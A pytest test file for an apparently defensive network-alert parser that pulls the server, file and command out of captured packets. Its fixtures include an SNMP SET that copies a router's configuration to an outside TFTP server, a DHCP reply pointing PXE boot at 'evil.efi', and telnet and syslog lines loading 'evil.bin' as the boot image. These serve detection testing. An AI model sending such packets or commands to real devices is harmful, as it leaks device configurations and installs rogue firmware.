"""What is read from the packet behind an alert: server, file and command, whatever the vendor."""

from __future__ import annotations

import base64
from ipaddress import IPv4Address
from typing import Any

import pytest

from bootwarden.engines.alert_files import FileNames
from bootwarden.replay.alerted import Said, said
from bootwarden.replay.findings import from_alert


def alert(payload: bytes, port: int, proto: str = "UDP", **more: Any) -> dict[str, Any]:
    return {
        "proto": proto,
        "src_ip": "10.0.6.6",
        "src_port": 50161,
        "dest_ip": "10.0.1.1",
        "dest_port": port,
        "payload": base64.b64encode(payload).decode(),
        **more,
    }


def ber(tag: int, *parts: bytes) -> bytes:
    content = b"".join(parts)
    return bytes([tag, len(content)]) + content


def binding(last: int, tag: int, value: bytes) -> bytes:
    return ber(0x30, ber(6, bytes([43, 6, 1, 4, 1, 9, 9, 96, last])), ber(tag, value))


SET = ber(
    0x30,
    ber(2, b"\1"),
    ber(4, b"private"),
    ber(
        0xA3,
        ber(2, b"\7"),
        ber(2, b"\0"),
        ber(2, b"\0"),
        ber(
            0x30,
            binding(2, 2, b"\1"),
            binding(5, 0x40, IPv4Address("10.0.6.66").packed),
            binding(6, 4, b"edge1-confg"),
        ),
    ),
)
IN_ADDRESS = SET.replace(b"\x40\x04", b"\x04\x04")
HEAD = b"\2\1\6\0" + bytes(16) + IPv4Address("10.0.0.9").packed + bytes(212)
DHCP = HEAD + b"\x63\x82\x53\x63" + b"\x35\1\2" + b"\x42\x0910.0.6.66" + b"\x43\x08evil.efi" + b"\xff"


@pytest.mark.parametrize(
    ("payload", "port", "proto", "expected"),
    [
        (SET, 161, "UDP", Said("10.0.6.66", "edge1-confg")),
        (IN_ADDRESS, 161, "UDP", Said("10.0.6.66", "edge1-confg")),
        (DHCP, 68, "UDP", Said("10.0.6.66", "evil.efi")),
        (b"\0\1network-confg\0octet\0", 69, "UDP", Said(None, "network-confg")),
        (
            b"\xff\xfd\x18conf t\r\0boot system tftp evil.bin 10.0.6.67\x086\r\0end\r\0",
            23,
            "TCP",
            Said("10.0.6.66", "evil.bin", "boot system tftp evil.bin 10.0.6.66"),
        ),
        (
            b"copy tftp://10.0.6.66/d/evil.bin flash:\r\n",
            23,
            "TCP",
            Said("10.0.6.66", "d/evil.bin", "copy tftp://10.0.6.66/d/evil.bin flash:"),
        ),
        (
            b"<189>12: %PARSER-5-CFGLOG_LOGGEDCMD: User:eve  logged command:boot system tftp://10.0.6.66/x.bin",
            514,
            "UDP",
            Said("10.0.6.66", "x.bin", "boot system tftp://10.0.6.66/x.bin"),
        ),
        (b"\xff" * 4000, 23, "TCP", Said()),
        (b"\x30\x84\xff\xff\xff\xff" + b"\x30" * 500, 161, "UDP", Said()),
        (b"", 161, "UDP", Said()),
    ],
    ids=["set", "inet address", "dhcp", "tftp", "typed", "url", "syslog", "noise", "hostile ber", "empty"],
)
def test_what_a_payload_names(payload: bytes, port: int, proto: str, expected: Said) -> None:
    assert said(alert(payload, port, proto), restarts=False) == expected


def test_a_restart_names_no_server() -> None:
    typed = b"copy tftp://10.0.6.66/x flash:\r\nreload\r\n"
    assert said(alert(typed, 23, "TCP"), restarts=True) == Said(command="reload")


def test_a_finding_of_suricata_alone_says_what_the_order_named() -> None:
    record = alert(
        SET,
        161,
        timestamp="2026-01-05T08:00:00+0000",
        alert={
            "signature": "BOOTWARDEN BW03 SNMP SET",
            "metadata": {"bootwarden_detection": ["BW03"], "bootwarden_device": ["dest_ip"]},
        },
    )
    found = from_alert(record, "7.0.10")
    assert found is not None
    assert (found.device, found.actor, found.server, found.file_name) == (
        "10.0.1.1",
        "10.0.6.6",
        "10.0.6.66",
        "edge1-confg",
    )


def test_of_a_configuration_the_boot_line_names_the_server() -> None:
    config = b"\0\3\0\1hostname r1\nboot system tftp://10.0.6.66/evil.bin\nint Gi0/0\n ip address 10.0.1.1 255.0.0.0\n"
    record = alert(config, 53242, src_port=32768, tftp={}, timestamp="2026-01-05T08:00:00+0000")
    record["alert"] = {"signature": "BOOTWARDEN BW08 It has", "metadata": {"bootwarden_detection": ["BW08"]}}
    record["alert"]["metadata"]["bootwarden_device"] = ["dest_ip"]
    found = from_alert(record, "7.0.10")
    assert found is not None
    assert (found.server, found.file_name) == ("10.0.6.66", "evil.bin")
    assert found.detail.endswith(": boot system tftp://10.0.6.66/evil.bin")


def event(kind: str, source: tuple[str, int], target: tuple[str, int], second: int, **more: Any) -> dict[str, Any]:
    ends = dict(zip(("src_ip", "src_port", "dest_ip", "dest_port"), (*source, *target), strict=True))
    time = f"2026-01-05T08:00:{second:02}+0000"
    return {"event_type": kind, "proto": "UDP", "flow_id": second, "timestamp": time, **ends, **more}


CLIENT, SERVER = ("10.0.1.1", 53242), ("10.0.6.66", 32768)


def asked(file: str, second: int) -> dict[str, Any]:
    return event("tftp", CLIENT, (SERVER[0], 69), second, tftp={"packet": "read", "file": file})


def named(*events: dict[str, Any]) -> list[str | None]:
    names = FileNames()
    found = [e for one in events for e in names.take(one)] + list(names.rest())
    return [e.get("tftp", {}).get("file") for e in found if e["event_type"] == "alert"]


@pytest.mark.parametrize(
    ("ends", "file"),
    [
        ((SERVER, CLIENT), "new.bin"),
        ((CLIENT, SERVER), "new.bin"),
        ((SERVER, ("10.0.1.1", 53243)), None),
        ((("10.0.0.5", 32768), CLIENT), None),
    ],
    ids=["data", "an ACK or an upload", "another port of the client", "another server"],
)
def test_an_alert_on_data_has_the_file_that_its_client_asked_for_last(ends: Any, file: str | None) -> None:
    assert named(asked("old.bin", 1), asked("new.bin", 2), event("alert", *ends, 3, app_proto="failed")) == [file]


def test_an_alert_on_a_request_waits_for_its_own() -> None:
    alert = event("alert", CLIENT, (SERVER[0], 69), 2, app_proto="tftp")
    assert named(asked("old.bin", 1), alert, asked("new.bin", 2)) == ["new.bin"]
    assert named(asked("old.bin", 1), alert) == [None]


def test_requests_without_end_are_not_all_remembered() -> None:
    names = FileNames()
    for number in range(FileNames.MOST_REQUESTS + 10):
        list(names.take(event("tftp", (f"10.1.{number >> 8}.{number & 255}", 2000), SERVER, 1, tftp={"file": "x"})))
    assert len(names._requests) == FileNames.MOST_REQUESTS
